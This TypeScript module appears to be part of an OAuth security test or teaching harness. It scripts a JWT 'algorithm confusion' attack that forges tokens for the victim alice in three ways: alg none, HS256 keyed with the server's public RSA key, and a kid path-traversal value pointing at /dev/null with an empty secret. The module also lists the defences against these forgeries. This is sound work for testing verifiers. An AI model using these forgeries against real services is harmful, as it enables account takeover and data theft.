import { createHmac, createPublicKey, type JsonWebKey } from 'node:crypto'
import type { Step } from '../../flows/step.js'
import { get } from '../../flows/walk.js'
import type { Exchange } from '../../protocol/http/exchange.js'
import { decodeJwt } from '../../protocol/tokens/decode.js'
import { isJsonObject, type JsonObject } from '../../protocol/values.js'
import { logInByCode, PUBLIC_CLIENT } from './code-login.js'
import type { Refusal } from './defence.js'
import { type Attack, planned } from './model.js'
import { memberOf, membersOf, recordsRequest } from './moves.js'
import { recordsRead } from './planned-steps.js'
import type { Scene } from './scene.js'

const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')

/** The first published RSA key, as PEM: the text that a careless verifier takes for a secret. */
function publishedPem(keys: Exchange): string | undefined {
  const { keys: all } = membersOf(keys)
  const key = Array.isArray(all) ? all.find(each => isJsonObject(each) && each.kty === 'RSA') : undefined
  if (key === undefined) return undefined
  const object = createPublicKey({ key: key as JsonWebKey, format: 'jwk' })
  return object.export({ type: 'spki', format: 'pem' }).toString()
}

function hmacToken(header: JsonObject, claims: JsonObject, secret: string): string {
  const input = `${encode({ ...header, alg: 'HS256' })}.${encode(claims)}`
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`
}

/** A forged token, and how it was made. */
interface Forgery {
  readonly token: string
  readonly note: string
}

/** The forgeries of a token, with other claims and no key of the issuer. */
function* forgeries(header: JsonObject, claims: JsonObject, pem: string | undefined): Generator<Forgery> {
  const unsigned = `${encode({ ...header, alg: 'none' })}.${encode(claims)}.`
  yield { token: unsigned, note: 'alg none, and no signature' }
  if (pem !== undefined) {
    const note = 'alg HS256, signed with the text of the published key'
    yield { token: hmacToken(header, claims, pem), note }
  }
  // Every machine has this file, and it is empty.
  const path = '../../../../../../dev/null'
  yield {
    token: hmacToken({ ...header, kid: path }, claims, ''),
    note: `alg HS256, kid ${path}, signed with the empty text`,
  }
}

async function* run(scene: Scene): AsyncGenerator<Step, Refusal | undefined, void> {
  const { attacker, accounts, urls, step } = scene
  const own = yield* logInByCode(scene, {
    browser: attacker,
    account: accounts.attacker,
    names: ['attacker_login', 'attacker_login', 'attacker_login'],
    scope: 'records:read',
  })
  const token = memberOf(own, 'access_token')
  if (token === undefined) return scene.refusal(own)
  const keys = await attacker.send(get(`${urls.authorization}/.well-known/jwks.json`))
  yield step('keys_request', { exchange: keys })

  const { header, claims } = decodeJwt(token)
  const promoted = { ...claims, sub: accounts.victim.username }
  let refusal: Refusal | undefined
  for (const { token: forged, note } of forgeries(header, promoted, publishedPem(keys))) {
    yield step('forgery', { note, repeats: true })
    const records = await attacker.send(recordsRequest(scene, forged))
    yield step('resource_request', { exchange: records, note, repeats: true })
    refusal = await scene.refusal(records)
    if (refusal === undefined) return undefined
  }
  return refusal
}

/** A token with another subject, which a careless resource server takes for signed. */
export const algorithmConfusion: Attack = {
  name: 'algorithm-confusion',
  title: 'a token that the attacker signs, and the header says how to check it',
  rule: 'RFC 8725 §2.1',
  weak: ['alg-none', 'hs-rs', 'kid-path'],
  opened: {
    'alg-none': { stolen: true },
    'hs-rs': { stolen: true },
    'kid-path': { stolen: true },
  },
  starts: [
    'The attacker has an account and a token of their own: they know what a token looks like.',
    'The attacker knows alice’s name, and the published keys of the server.',
  ],
  steals: 'records of alice',
  defences: [{ check: 'signature', rule: 'RFC 7515 §5.2' }],
  wouldNotHelp: [
    'short lifetimes: the attacker writes exp too',
    'checks of iss, aud and exp: all of them hold in the forged token',
    'a longer key: no key of the server is used',
  ],
  noWindow: 'the victim does nothing in it',
  running: { needs: [PUBLIC_CLIENT] },
  plan: [
    planned(
      'attacker_login',
      ['attacker', 'authorization_server'],
      'log in as the attacker',
      '6749 §4.1',
      'The attacker logs in with their own account, and gets an honest token.',
    ),
    planned(
      'keys_request',
      ['attacker', 'authorization_server'],
      'GET /.well-known/jwks.json',
      '8414 §2',
      'The attacker reads the public keys, as everybody may.',
    ),
    planned(
      'forgery',
      ['attacker', 'attacker'],
      'write alice into the token',
      '8725 §2.1',
      'The attacker changes sub to alice, and chooses the algorithm in the header.',
    ),
    recordsRead(
      'The attacker presents the forged token. The resource server must know beforehand which algorithms it accepts.',
    ),
  ],
  run,
}
